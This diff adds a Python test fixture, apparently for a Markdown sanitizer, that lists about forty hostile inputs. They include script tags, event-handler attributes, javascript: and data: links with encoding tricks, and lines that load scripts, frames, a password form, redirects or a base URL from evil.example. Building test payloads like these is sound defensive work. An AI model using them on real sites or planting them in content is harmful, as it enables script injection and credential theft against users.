@@ -1,0 +1,45 @@
+"""Hostile Markdown inputs, shared by every test of user- or editor-written text.
+
+DISCUSSION reuses this list for comments, questions and answers:
+    from tests.articles.attack_strings import ATTACK_STRINGS
+"""
+
+ATTACK_STRINGS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<svg onload="alert(1)"></svg>',
+    '<a href="javascript:alert(1)">click</a>',
+    "<iframe src=https://evil.example></iframe>",
+    '<div style="position:fixed;top:0">cover</div>',
+    "<style>body{display:none}</style>",
+    "<!-- a comment --><b>bold</b>",
+    '<form action="https://evil.example"><input name=pw></form>',
+    "<object data=x.swf></object>",
+    "[click](javascript:alert(1))",
+    "[click](JAVASCRIPT:alert(1))",
+    "[click](java\tscript:alert(1))",
+    "[click](javascript&#58;alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](vbscript:msgbox(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    '[click](https://example.com "title" onclick="alert(1)")',
+    "![x](javascript:alert(1))",
+    '![x" onerror="alert(1)](https://example.com/a.png)',
+    "![x](https://example.com/a.png){onerror=alert(1)}",
+    "<javascript:alert(1)>",
+    "[a]: javascript:alert(1)\n\n[a]",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "> <script>alert(1)</script>",
+    "# <img src=x onerror=alert(1)>",
+    "| a |\n|---|\n| <script>alert(1)</script> |",
+    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
+    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<base href=https://evil.example/>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    '[x](https://example.com/"onmouseover="alert(1))',
+]
